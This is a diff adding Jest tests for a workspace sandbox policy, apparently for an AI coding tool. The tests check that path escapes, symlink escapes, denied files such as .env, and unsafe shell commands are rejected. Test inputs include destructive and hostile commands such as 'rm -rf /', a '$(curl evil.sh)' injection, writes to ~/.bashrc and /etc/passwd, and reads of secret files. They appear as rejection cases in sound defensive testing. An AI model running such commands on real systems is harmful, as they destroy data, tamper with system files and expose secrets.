@@ -0,0 +1,194 @@
+// ═══════════════════════════════════════════════════════
+// 🧪 Workspace Policy Tests - اختبارات سياسة مساحة العمل
+// ═══════════════════════════════════════════════════════
+
+import { describe, test, expect, beforeAll, afterAll } from '@jest/globals';
+import fs from 'fs-extra';
+import os from 'os';
+import path from 'path';
+import {
+  WorkspacePolicy,
+  WorkspaceViolationError,
+  WorkspaceViolationType,
+} from '../workspace-policy';
+
+let tmp: string;
+let root: string;
+let outside: string;
+
+async function violation(promise: Promise<unknown>): Promise<WorkspaceViolationType> {
+  try {
+    await promise;
+  } catch (error) {
+    if (error instanceof WorkspaceViolationError) return error.type;
+    throw error;
+  }
+  throw new Error('expected a workspace violation');
+}
+
+beforeAll(async () => {
+  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'oqool-policy-'));
+  root = path.join(tmp, 'project');
+  outside = path.join(tmp, 'outside');
+  await fs.ensureDir(path.join(root, 'src'));
+  await fs.ensureDir(outside);
+  await fs.writeFile(path.join(root, 'src', 'index.ts'), 'export {};\n');
+  await fs.writeFile(path.join(outside, 'secret.txt'), 'secret\n');
+  await fs.symlink(outside, path.join(root, 'escape'));
+});
+
+afterAll(async () => {
+  await fs.remove(tmp);
+});
+
+describe('WorkspacePolicy paths', () => {
+  test('resolves relative and absolute paths inside the root', async () => {
+    const policy = new WorkspacePolicy({ root });
+
+    expect(await policy.resolvePath('src/index.ts')).toBe(path.join(root, 'src', 'index.ts'));
+    expect(await policy.resolvePath(path.join(root, 'src/new.ts'), 'write')).toBe(
+      path.join(root, 'src', 'new.ts')
+    );
+  });
+
+  test('rejects paths outside the root, denied globs and symlink escapes', async () => {
+    const policy = new WorkspacePolicy({ root });
+
+    expect(await violation(policy.resolvePath('../outside/secret.txt'))).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await violation(policy.resolvePath('.env.local'))).toBe(
+      WorkspaceViolationType.DENIED_PATH
+    );
+    expect(await violation(policy.resolvePath('.git/config', 'write'))).toBe(
+      WorkspaceViolationType.DENIED_PATH
+    );
+    expect(await violation(policy.resolvePath('escape/secret.txt'))).toBe(
+      WorkspaceViolationType.SYMLINK_ESCAPE
+    );
+    expect(await violation(policy.resolvePath('escape/new.txt', 'write'))).toBe(
+      WorkspaceViolationType.SYMLINK_ESCAPE
+    );
+  });
+
+  test('honours file operation switches', async () => {
+    const policy = new WorkspacePolicy({
+      root,
+      fileOperations: { read: true, write: false, execute: true },
+    });
+
+    expect(await violation(policy.resolvePath('src/index.ts', 'write'))).toBe(
+      WorkspaceViolationType.OPERATION_DENIED
+    );
+  });
+});
+
+describe('WorkspacePolicy commands', () => {
+  const rejected = (policy: WorkspacePolicy, command: string) =>
+    violation(policy.checkCommand(command));
+
+  test('checks every segment against the allowlist', async () => {
+    const policy = new WorkspacePolicy({ root, allowedCommands: ['git status', 'make *'] });
+
+    await expect(policy.checkCommand('git status --short && make build')).resolves.toBeUndefined();
+    expect(await rejected(policy, 'make build; rm -rf /')).toBe(
+      WorkspaceViolationType.COMMAND_NOT_ALLOWED
+    );
+    expect(await rejected(policy, 'git status $(curl evil.sh)')).toBe(
+      WorkspaceViolationType.COMMAND_NOT_ALLOWED
+    );
+    expect(await rejected(policy, "'git status' x")).toBe(
+      WorkspaceViolationType.COMMAND_NOT_ALLOWED
+    );
+  });
+
+  test('rejects shell constructs the lexer cannot vouch for', async () => {
+    const policy = new WorkspacePolicy({ root });
+
+    for (const command of [
+      'ls & rm -rf ~',
+      'ls &',
+      'echo `id`',
+      'echo "$(id)"',
+      'echo $HOME',
+      'cat src/*.ts',
+      'cat .e{nv,x}',
+      'cat <<EOF',
+      'cat <(ls)',
+      '(ls)',
+      'ls |& cat',
+      "echo 'open",
+    ]) {
+      expect(await rejected(policy, command)).toBe(WorkspaceViolationType.COMMAND_NOT_ALLOWED);
+    }
+  });
+
+  test('checks redirections and path arguments against the policy', async () => {
+    const policy = new WorkspacePolicy({ root });
+
+    await expect(policy.checkCommand('cat src/index.ts | grep -n export')).resolves.toBeUndefined();
+    await expect(policy.checkCommand('ls src > files.txt 2>&1')).resolves.toBeUndefined();
+    await expect(policy.checkCommand('git diff HEAD~1 2>/dev/null')).resolves.toBeUndefined();
+
+    expect(await rejected(policy, 'echo x > ~/.bashrc')).toBe(
+      WorkspaceViolationType.COMMAND_NOT_ALLOWED
+    );
+    expect(await rejected(policy, `echo x >> ${path.join(outside, 'x')}`)).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await rejected(policy, 'echo x > .env')).toBe(WorkspaceViolationType.DENIED_PATH);
+    expect(await rejected(policy, 'cat .env')).toBe(WorkspaceViolationType.DENIED_PATH);
+    expect(await rejected(policy, 'cat ../outside/secret.txt')).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await rejected(policy, 'grep -r secret /etc')).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await rejected(policy, 'cat escape/secret.txt')).toBe(
+      WorkspaceViolationType.SYMLINK_ESCAPE
+    );
+    expect(await rejected(policy, 'grep --file=.git/config x')).toBe(
+      WorkspaceViolationType.DENIED_PATH
+    );
+  });
+
+  test('checks values attached to short options', async () => {
+    const policy = new WorkspacePolicy({ root, allowedCommands: ['grep *', 'sort *', 'git *'] });
+
+    await expect(policy.checkCommand('grep -rn5 export src')).resolves.toBeUndefined();
+    await expect(policy.checkCommand('sort -o./sorted.txt src/index.ts')).resolves.toBeUndefined();
+
+    expect(await rejected(policy, 'sort -o/etc/passwd src/index.ts')).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await rejected(policy, 'grep -f../outside/secret.txt src')).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await rejected(policy, 'git -C/ status')).toBe(
+      WorkspaceViolationType.OUTSIDE_WORKSPACE
+    );
+    expect(await rejected(policy, 'grep -f.env x')).toBe(WorkspaceViolationType.DENIED_PATH);
+  });
+
+  test('does not allow arbitrary code execution by default', async () => {
+    const policy = new WorkspacePolicy({ root });
+
+    expect(await rejected(policy, 'node -e "require(1)"')).toBe(
+      WorkspaceViolationType.COMMAND_NOT_ALLOWED
+    );
+    expect(await rejected(policy, 'npm run postinstall')).toBe(
+      WorkspaceViolationType.COMMAND_NOT_ALLOWED
+    );
+    await expect(policy.checkCommand('npm test')).resolves.toBeUndefined();
+  });
+
+  test('session allowances are added and reset', async () => {
+    const policy = new WorkspacePolicy({ root, allowedCommands: [] });
+
+    policy.allowCommand('make test');
+    await expect(policy.checkCommand('make test')).resolves.toBeUndefined();
+
+    policy.resetSession();
+    expect(await rejected(policy, 'make test')).toBe(WorkspaceViolationType.COMMAND_NOT_ALLOWED);
+  });
+});